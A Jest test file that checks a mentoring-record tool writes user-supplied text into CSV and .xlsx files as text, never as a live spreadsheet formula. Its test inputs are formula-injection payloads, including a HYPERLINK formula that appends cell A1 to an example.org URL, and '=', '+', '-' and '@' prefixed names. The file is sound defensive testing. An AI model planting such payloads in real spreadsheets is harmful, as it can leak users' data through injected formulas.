/**
 * Text from a stranger's file never runs as a formula in what the project
 * writes. The coordinator's record names files and mentees that come from
 * submissions: a CSV record is opened by LibreOffice (which runs `=…` in a
 * CSV as a formula) and read with openpyxl at test time, and read back by
 * the project's own record reader. The workbooks the project writes (the
 * submission, the web tracker's form, the .xlsx record) hold such text as
 * text cells.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { runCli } from "../../src/cli/commands";
import { RECORD_COLUMNS } from "../../src/core";
import { buildFormWorkbook } from "../../src/tracker/formWriter";
import { RECORD_CSV_HEADER, parseRecordCsv, recordCsvLine, recordCsvText } from "../../src/workbook/record-csv";

const ROOT = resolve(__dirname, "..", "..");
const CLI = join(ROOT, "lib", "cli.cjs");
const PYTHON = "/usr/bin/python3";
const works = (command: string, args: readonly string[]): boolean => {
  try {
    execFileSync(command, args, { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
};
const hasOpenpyxl = works(PYTHON, ["-c", "import openpyxl"]);
const hasSoffice = works("which", ["soffice"]);
if (process.env.CI && (!hasOpenpyxl || !hasSoffice)) {
  throw new Error("These tests need Debian's python3-openpyxl and libreoffice-calc-nogui: .ci/run installs them.");
}
const describeWithTools = hasOpenpyxl && hasSoffice ? describe : describe.skip;

const LOG = [
  "Date,Activity,Format,Provider,Credential,Quantity,Notes",
  "2024-01-10,treatment,In person,Jane Roe,CST-T,6,=1+1",
  "2024-01-11,small-group,Virtual,,,6,",
].join("\n");

let folder: string;
beforeAll(() => {
  execFileSync(process.execPath, [join(ROOT, "scripts", "build-cli.mjs"), "--quiet"], { cwd: ROOT });
});
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "cst-formula-text-"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/**
 * Every cell of every sheet of the workbook as openpyxl reads it: [sheet, cell, value, data_type]
 * ('s' text, 'n' number, 'f' formula).
 */
function openpyxlCells(path: string): [string, string, string, string][] {
  const script = [
    "import sys, json, openpyxl",
    "wb = openpyxl.load_workbook(sys.argv[1])",
    "print(json.dumps([[ws.title, c.coordinate, str(c.value), c.data_type] for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]))",
  ].join("\n");
  return JSON.parse(execFileSync(PYTHON, ["-c", script, path], { encoding: "utf8" })) as [string, string, string, string][];
}

describe("the coordinator's CSV record", () => {
  test("a field a spreadsheet would run is written behind an apostrophe, quoted; every field reads back as it was", () => {
    const texts = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''@x", "'quoted'", "a=1", "plain", "1,5"];
    const line = recordCsvLine(texts);
    expect(line).toBe(`"'=1+1","'+1","'-1","'@A1","'\t=1","'\r=1","''=1","'''@x",'quoted',a=1,plain,"1,5"\r\n`);
    // A line break in a quoted field reads as a line feed, as everywhere in the project's CSV.
    expect(parseRecordCsv(RECORD_CSV_HEADER.slice(1) + line)?.rows).toEqual([texts.map((text) => text.replace("\r", "\n"))]);
    // A number is no text a spreadsheet would run: written as it is.
    expect(recordCsvLine([-1, 2.5])).toBe("-1,2.5\r\n");
  });
});

describeWithTools("the coordinator's CSV record in LibreOffice", () => {
  test("names that start with =, +, - or @ open as text in LibreOffice and read back as they were", () => {
    const texts: string[] = [];
    for (const start of ["=", "+", "-", "@"]) {
      const file = `${start}SUM(1+1).csv`;
      writeFileSync(join(folder, file), LOG);
      const name = `${start}HYPERLINK("http://example.org/?"&A1,"click")`;
      const email = `${start}ann@example.org`;
      texts.push(file, name, email);
      // Exit status 1: an email that starts with = or @ is not an email address; the file is recorded all the same.
      const run = spawnSync(
        process.execPath,
        [CLI, "verify", `--name=${name}`, `--email=${email}`, "--as-of", "2024-06-01", "--record", "record.csv", "--", file],
        { cwd: folder, encoding: "utf8" },
      );
      expect(run.stderr).toMatch(/recorded 1 file in record\.csv/);
    }
    const record = readFileSync(join(folder, "record.csv"));
    const rows = parseRecordCsv(recordCsvText(record))?.rows ?? [];
    expect(rows.flatMap((row) => [row[0], row[1], row[2]])).toEqual(texts);

    execFileSync(
      "soffice",
      [
        "--headless",
        "--norestore",
        `-env:UserInstallation=file://${join(folder, "lo")}`,
        "--infilter=CSV:44,34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        join(folder, "out"),
        join(folder, "record.csv"),
      ],
      { stdio: "ignore", timeout: 120_000 },
    );
    const cells = openpyxlCells(join(folder, "out", "record.xlsx"));
    expect(cells.filter(([, , , type]) => type === "f")).toEqual([]);
    expect(cells.filter(([, cell]) => /^A\d+$/.test(cell)).map(([, , value]) => value)).toEqual([
      RECORD_COLUMNS[0],
      ...texts.filter((_, index) => index % 3 === 0).map((text) => `'${text}`),
    ]);
  }, 120_000);
});

describeWithTools("the workbooks the project writes hold a note =1+1 as text", () => {
  const expectText = (cells: [string, string, string, string][], value: string): void => {
    const found = cells.filter(([, , text]) => text === value);
    expect(found.length).toBeGreaterThan(0);
    expect(found.filter(([, , , type]) => type !== "s")).toEqual([]);
  };

  test("the exported submission, the .xlsx record and the web tracker's form", async () => {
    const log = join(folder, "log.csv");
    writeFileSync(log, LOG);
    const submission = join(folder, "submission.xlsx");
    const io = { out: () => undefined, err: () => undefined };
    expect(await runCli(["export", log, submission, "--name=@Ann", "--email=ann@example.org", "--as-of", "2024-06-01"], io)).toBe(0);
    const exported = openpyxlCells(submission);
    expect(exported.filter(([, , , type]) => type === "f")).toEqual([]);
    expectText(exported, "=1+1");
    expectText(exported, "@Ann");

    const record = join(folder, "record.xlsx");
    await runCli(["verify", log, "--name==Ann+1", "--as-of", "2024-06-01", "--record", record], io);
    expectText(openpyxlCells(record), "=Ann+1");

    const form = join(folder, "form.xlsx");
    const cells = ["2024-01-10", "treatment", "In person", "Jane Roe", "CST-T", 6, "=1+1"];
    writeFileSync(form, await buildFormWorkbook({ profileCells: ["+Ann"], rows: [{ row: 2, cells }], dateSystem: "1900", fillIn: true }));
    const tracker = openpyxlCells(form);
    expect(tracker.filter(([, , , type]) => type === "f")).toEqual([]);
    expectText(tracker, "=1+1");
    expectText(tracker, "+Ann");
  }, 120_000);
});
